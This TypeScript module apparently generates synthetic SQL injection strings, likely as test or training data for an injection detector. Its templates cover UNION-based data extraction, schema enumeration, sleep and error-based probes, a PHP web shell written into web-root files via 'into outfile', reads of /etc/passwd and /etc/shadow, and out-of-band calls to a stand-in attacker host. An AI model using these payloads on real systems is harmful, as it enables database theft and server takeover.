import {
  altered,
  digits,
  family,
  integer,
  letters,
  maybe,
  mostly,
  oneOf,
  repeat,
  same,
  text,
  words
} from '../template.ts';
import { attackerHost, inventedWord, lowerWord } from '../vocabulary/shared.ts';
import {
  alias,
  baseValue,
  bigNumber,
  catalogue,
  characterCodes,
  column,
  comment,
  hexString,
  injected,
  quoteless,
  readOut,
  serverFact,
  shortText,
  sql,
  table
} from '../vocabulary/sql.ts';

const all = maybe(' all', 0.5);
const union = text`union${all}${maybe(' distinct', 0.03)} select`;
const filler = mostly(
  [integer(1, 30), 5],
  ['null', 5],
  [bigNumber, 1],
  [text`'${shortText}'`, 1],
  ['@', 0.1],
  [quoteless, 0.4],
  ['char(45,120,45)', 0.1],
  ['0', 0.5],
  ['cast(null as int)', 0.1]
);
const counted = altered(integer(2, 25), (count, rng) =>
  Array.from({ length: Number(count) }, (_, at) => (rng.chance(0.02) ? 'null' : String(at + 1))).join(
    rng.pick([',', ',', ', '])
  )
);
const someColumns = repeat(filler, 1, 12, oneOf(',', ', '));
const columnsWithRead = text`${maybe(text`${repeat(filler, 1, 6, ',')},`, 0.7)}${oneOf(readOut, column, serverFact)}${maybe(text`,${repeat(filler, 1, 6, ',')}`, 0.7)}`;
const separator = mostly(
  ['0x3a', 3],
  ["':'", 2],
  ['char(58)', 1],
  ["'~'", 1],
  ['0x7e', 1],
  ['0x20', 0.5],
  ["','", 0.5],
  [hexString, 0.5]
);
const joined = oneOf(
  text`concat(${column},${separator},${column})`,
  text`concat_ws(${separator},${oneOf(serverFact, column)},${oneOf(serverFact, column)},${column})`,
  text`group_concat(${column}${maybe(text`,${separator},${column}`)}${maybe(text` separator ${separator}`)})`,
  text`string_agg(${column}||':'||${column},',')`,
  text`${column}||${oneOf("'~'", "':'", 'chr(58)')}||${column}`,
  text`${column}%2b':'%2b${column}`,
  text`${column}+':'+${column}`,
  text`concat(${hexString},${readOut},${hexString})`,
  text`listagg(${column},',') within group (order by ${column})`,
  text`json_group_array(${column})`,
  text`xmlagg(xmlelement(e,${column}))`,
  text`unhex(hex(${readOut}))`,
  text`cast(${readOut} as char)`,
  text`convert(${readOut} using latin1)`
);
const from = oneOf(
  text` from ${table}`,
  text` from ${table} where ${column}=${oneOf(bigNumber, text`'${shortText}'`, quoteless)}`,
  ' from dual',
  text` from ${table} limit ${integer(0, 9)},1`,
  text` from ${inventedWord}.${table}`,
  ' from information_schema.tables',
  ' from sysobjects',
  ' from (select 1)a'
);

/** Quotes, brackets, dots and commas in disorder: the fault a scanner provokes before it tries anything. */
const disorder = letters(`()'".,`, 4, 10);

export const unionTemplates = family('sql-injection/union', {
  counted: sql(injected(text`${union} ${counted}`)),
  nulls: sql(injected(text`${union} ${repeat('null', 1, 20, oneOf(',', ', '))}`)),
  fillers: sql(injected(text`${union} ${someColumns}${maybe(from, 0.3)}`)),
  'read-out': sql(injected(text`${union} ${columnsWithRead}${maybe(from)}`)),
  'joined-columns': sql(
    injected(
      text`${union} ${maybe(text`${repeat(filler, 1, 5, ',')},`)}${joined}${maybe(text`,${repeat(filler, 1, 5, ',')}`)}${from}`
    )
  ),
  catalogue: sql(injected(text`${union} ${maybe(text`${repeat(filler, 1, 4, ',')},`)}${catalogue}`)),
  'catalogue-all-names': sql(
    injected(
      text`${union} ${maybe(text`${repeat(filler, 1, 4, ',')},`)}group_concat(${words('table_name column_name schema_name')})${maybe(text`,${repeat(filler, 1, 4, ',')}`)} from information_schema.${words('tables columns schemata')}${maybe(' where table_schema=database()')}`
    )
  ),
  'no-gap': sql(
    text`${baseValue}${oneOf("'", '"', ')', '')}union${oneOf('(', ' ')}select${oneOf('(', ' ')}${someColumns}${maybe(')')}${maybe(comment)}`
  ),
  'parenthesised-select': sql(
    text`${maybe(baseValue)}${maybe("'")} union (select ${someColumns}${maybe(from)})${maybe(comment)}`
  ),
  'nested-parentheses': sql(
    injected(
      text`union(select(${integer(1, 9)}),${repeat(text`(${oneOf(serverFact, column, filler)})`, 1, 6, ',')}${maybe(text`from(${table})`)})`
    )
  ),
  'tool-markers': sql(
    text`${bigNumber}${oneOf('', "'", '"', ')', "')", "'))", '))')} union all select ${repeat(oneOf('null', bigNumber, text`${characterCodes('char', '+')}`, text`concat(0x${digits(10)},${oneOf(bigNumber, readOut)},0x${digits(10)})`), 1, 10, ',')}${maybe(' from dual')}${oneOf('--', '#', text`-- ${alias}`, '-- -', text` and (${same(bigNumber, (n) => `${n}=${n}`)}`)}`
  ),
  'bare-select': sql(
    text`${maybe(text`${baseValue} `)}${union} ${oneOf(counted, someColumns, columnsWithRead)}${maybe(from)}${maybe(comment)}`
  ),
  'limit-then-union': sql(
    text`${baseValue} limit ${integer(0, 9)}${maybe(text`,${integer(1, 9)}`)} ${union} ${someColumns}${maybe(comment)}`
  ),
  'having-then-union': sql(
    injected(text`${words('having where and')} 1=2 ${union} ${oneOf(someColumns, columnsWithRead)}`)
  ),
  'join-columns': sql(
    injected(
      text`union select * from ${repeat(text`(select ${oneOf(integer(1, 9), readOut)})${alias}`, 2, 5, oneOf(' join ', ',', ' cross join '))}`
    )
  ),
  'into-outfile': sql(
    injected(
      text`${union} ${maybe(text`${repeat(filler, 1, 4, ',')},`)}${oneOf(text`'<?php ${words('system eval passthru exec')}($_${words('GET POST REQUEST')}[${shortText}]); ?>'`, hexString, readOut, filler)} into ${words('outfile dumpfile')} ${oneOf(text`'/var/www/${lowerWord}/${lowerWord}.php'`, text`'c:/inetpub/wwwroot/${lowerWord}.php'`, text`'/tmp/${lowerWord}'`, hexString)}`
    )
  ),
  'load-file': sql(
    injected(
      text`${union} ${maybe(text`${repeat(filler, 1, 4, ',')},`)}load_file(${oneOf(text`'/etc/${words('passwd shadow hosts group')}'`, text`'c:/${words('boot.ini windows/win.ini')}'`, hexString)})`
    )
  ),
  'order-by-after': sql(
    injected(
      text`${union} ${someColumns} ${oneOf(text`order by ${integer(1, 9)}`, 'group by 1', text`limit ${integer(0, 9)},1`, text`having ${bigNumber}=${bigNumber}`)}`
    )
  ),
  'minus-intersect': sql(
    injected(text`${words('minus intersect except')} select ${someColumns} from ${oneOf('dual', table)}`)
  ),
  'values-clause': sql(injected(text`union values (${repeat(filler, 1, 6, ',')})`))
});

export const probeTemplates = family('sql-injection/probe', {
  'order-by': sql(
    text`${baseValue}${oneOf("'", '"', ')', "')", '', '', '')} order by ${integer(1, 100)}${oneOf(comment, comment, '')}`
  ),
  'order-by-list': sql(
    text`${baseValue}${oneOf("'", '')} ${words('order group')} by ${altered(integer(2, 15), (count) => Array.from({ length: Number(count) }, (_, at) => at + 1).join(','))}${maybe(comment)}`
  ),
  'order-by-expression': sql(
    text`${maybe(text`${column} `)}${oneOf(text`,(select ${bigNumber} from (select sleep(${integer(1, 9)}))${alias})`, text`(case when ${same(bigNumber, (n) => `${n}=${n}`)} then ${column} else ${column} end)`, text`if(1=${integer(1, 2)},${column},${column})`, text`,extractvalue(1,concat(0x7e,${serverFact}))`, text`rand(${oneOf('true', text`ascii(substr(${readOut},1,1))>${integer(32, 120)}`)})`)}${maybe(text` ${words('asc desc')}`)}${maybe(comment)}`
  ),
  'group-by-having': sql(
    injected(
      oneOf(
        text`group by ${repeat(text`${table}.${column}`, 1, 4, ',')} having ${same(integer(1, 9), (n) => `${n}=${n}`)}`,
        text`having ${same(bigNumber, (n) => `${n}=${n}`)}`,
        text`group by ${column} having count(*)>${integer(0, 3)}`
      )
    )
  ),
  limit: sql(
    text`${baseValue}${oneOf("'", '"', '')} limit ${integer(0, 100)}${oneOf(text`,${integer(1, 9)}`, text` offset ${integer(1, 9)}`, '')}${comment}`
  ),
  'procedure-analyse': sql(
    text`${baseValue}${oneOf("'", '')} ${maybe(text`limit ${integer(0, 9)},1 `)}procedure analyse(${oneOf('', text`${integer(1, 9)},${integer(1, 9)}`, text`extractvalue(${bigNumber},concat(0x3a,${serverFact})),1`)})${maybe(comment)}`
  ),
  'quote-comment': text`${baseValue}${oneOf("'", '"', "')", '")', "'))", '`', "';", '";', ');')}${maybe(' ', 0.4)}${comment}`,
  'quotes-and-semicolons': sql(
    text`${baseValue}${oneOf(`'"`, `"'`, `'";`, `''"`, `\\'"`, `'))`, `")`, `';`, "'||", "'+'", `'"--`, `'%20`, `'\\"`, `'"()`, `'),("`, `"),('`)}${oneOf('', ';', '--', '#', ')', text`(${lowerWord}`, disorder, text`${shortText}${disorder}`)}${maybe(comment)}`
  ),
  'comment-in-number': text`${integer(1, 999)}${oneOf('/**/', '/*!*/', text`/*${alias}*/`, text`/*!${digits(5)}${alias}*/`)}${oneOf(comment, text`${words('or and')}/**/${same(integer(1, 9), (n) => `${n}=${n}`)}`)}`,
  'as-injectjson': sql(injected(text`as ${alias} where ${same(bigNumber, (n) => `${n}=${n}`)}`)),
  'having-sum': sql(injected(text`union select ${words('sum count avg max')}(${column}) from ${table}`)),
  'host-lookup': sql(
    text`${baseValue}'${oneOf('||', '+', ' ')}(select ${words('load_file utl_inaddr.get_host_address utl_http.request')}(${oneOf(text`'${attackerHost}'`, quoteless)}))${oneOf(`||'`, `+'`, comment)}`
  )
});
